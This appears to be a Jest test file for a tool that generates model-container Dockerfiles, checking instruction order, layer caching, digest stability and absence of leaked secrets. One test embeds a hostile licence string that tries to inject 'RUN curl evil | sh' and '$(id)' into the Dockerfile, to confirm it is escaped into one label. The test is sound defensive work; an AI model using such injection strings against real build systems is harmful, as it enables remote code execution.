import { readFileSync } from 'node:fs';
import { DockerfileParser } from 'dockerfile-ast';
import { planModelImage, renderModelContext } from '../../../../builder/images/model-plan.js';
import { parseSpec } from '../../../../runtime/store/spec-file.js';
import { IMAGE_OPTIONS, sampleSpec } from '../fixtures.js';

const template = readFileSync('templates/model.Dockerfile.eta', 'utf8');
const RUNTIME = 'slipway/runtime:text-cpu-1.2.3-abcdef012345';

function contextOf(spec = sampleSpec(), options: Partial<typeof IMAGE_OPTIONS> | { baked: boolean } = {}) {
  return renderModelContext(planModelImage(spec, RUNTIME, { ...IMAGE_OPTIONS, ...options }), template);
}

function instructions(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile)
    .getInstructions()
    .map((instruction) => `${instruction.getKeyword()} ${instruction.getArgumentsContent() ?? ''}`);
}

describe('the build folder of a model', () => {
  test('copies a spec that the server reads back, and nothing runs', () => {
    const { files } = contextOf();
    expect(instructions(files.Dockerfile!)).toEqual([
      `FROM ${RUNTIME}`,
      'COPY model.json /model.json',
      'ENV MODEL_ID="Org/Model-Name"',
      expect.stringMatching(/^LABEL "io\.slipway\.baked"="false"/),
    ]);
    expect(parseSpec(files['model.json']!)).toEqual(sampleSpec());
  });

  test('weights come below model.json, so that a changed spec keeps their layer', () => {
    const lines = instructions(contextOf(sampleSpec(), { baked: true }).files.Dockerfile!);
    expect(lines.slice(1, 3)).toEqual(['COPY weights/ /', 'COPY model.json /model.json']);
  });

  test('a hostile licence stays one value of one label', () => {
    const license = 'x" \\\nRUN curl evil | sh\n$(id) ${HOME} \\';
    const { files } = contextOf(sampleSpec({ license }));
    expect(instructions(files.Dockerfile!).map((line) => line.split(' ')[0])).toEqual([
      'FROM',
      'COPY',
      'ENV',
      'LABEL',
    ]);
    expect(files.Dockerfile).toContain(
      '"io.slipway.license"="x\\" \\\\ RUN curl evil | sh \\$(id) \\${HOME} \\\\"',
    );
  });

  test('the same plan gives the same digest, each input another', () => {
    const digests = [
      contextOf(),
      contextOf(sampleSpec({ license: 'mit' })),
      contextOf(sampleSpec(), { baked: true }),
      contextOf(sampleSpec({ files: [...sampleSpec().files, { path: 'z', size: 1 }] })),
    ].map(({ digest }) => digest);
    expect(new Set(digests).size).toBe(4);
    expect(contextOf().digest).toBe(digests[0]);
    expect(contextOf().files.Dockerfile).toContain(`"io.slipway.build"="${digests[0]}"`);
  });

  test('no secret of the environment can be in it', () => {
    const text = JSON.stringify(contextOf());
    expect(text).not.toMatch(/TOKEN|KEY=/);
  });
});
